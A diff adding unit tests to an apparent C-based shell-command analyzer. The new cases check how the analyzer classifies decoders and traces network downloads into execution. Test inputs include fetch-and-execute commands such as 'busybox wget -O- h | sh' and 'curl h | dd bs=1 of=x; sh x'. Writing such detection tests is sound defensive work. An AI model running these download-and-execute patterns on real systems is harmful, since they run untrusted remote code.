@@ -349,6 +349,11 @@ static void a_decoder_is_told_by_what_it_does(void **s)
 	assert_false(decodes("perl|-e|print \"\\x1b[1mid\""));
 	assert_true(decodes("python3|-c|print(urllib.parse.unquote(sys.stdin.read()))"));
 	assert_false(decodes("python3|-c|print(urllib.parse.quote(sys.stdin.read()))"));
+	assert_false(decodes("python3|-m|json.tool|-d"));
+	assert_false(decodes("python3|-x|base64|-d"));
+	assert_false(decodes("openssl|base64|file"));
+	assert_false(decodes("cat|enc|-d"));
+	assert_false(decodes("tr|A-Z|b-"));
 	assert_true(decodes("python3|-m|base64|-d"));
 	assert_false(decodes("python3|-m|base64"));
 	assert_true(decodes("tr|A-Za-z|N-ZA-Mn-za-m"));
@@ -454,6 +459,17 @@ static void a_file_carries_it_through_copies(void **s)
 	assert_string_equal(flows("curl h > /dev/shm/x; . /dev/shm/x"),
 			    "net untold sourced: . /dev/shm/x");
 	assert_string_equal(flows("curl h > /dev/null; . /dev/null"), "-");
+	assert_string_equal(flows("busybox wget -O- h | sh"), "net pipe: busybox wget -O- h | sh");
+	assert_string_equal(flows("busybox cat h | sh"), "-");
+	assert_string_equal(flows("echo wget | sh"), "-");
+	assert_string_equal(flows("curl h | dd bs=1 of=x; sh x"), "net executed: sh x");
+	assert_string_equal(flows("curl h | cat of=x; sh x"), "-");
+	assert_string_equal(flows("curl h | dd if=x; sh x"), "-");
+	assert_string_equal(flows("x=$(curl -s h); exec $x y; sh /dev/fd/3"), "-");
+	assert_string_equal(flows("fox i in $(curl -s h); sh -c \"$i\""), "-");
+	assert_string_equal(flows("curl h | cat; > x; sh x"), "-");
+	assert_string_equal(flows("curl h > x; > x; sh x"), "-");
+	assert_string_equal(flows("cat a | curl h | cat | sh"), "net pipe: curl h | cat | sh");
 	assert_string_equal(flows("sh x; curl h > x"), "-");
 	assert_string_equal(flows("base64 -d e > x; chmod 600 x"), "-");
 	assert_string_equal(flows("base64 -d e > x; wc x > y; sh y"), "-");
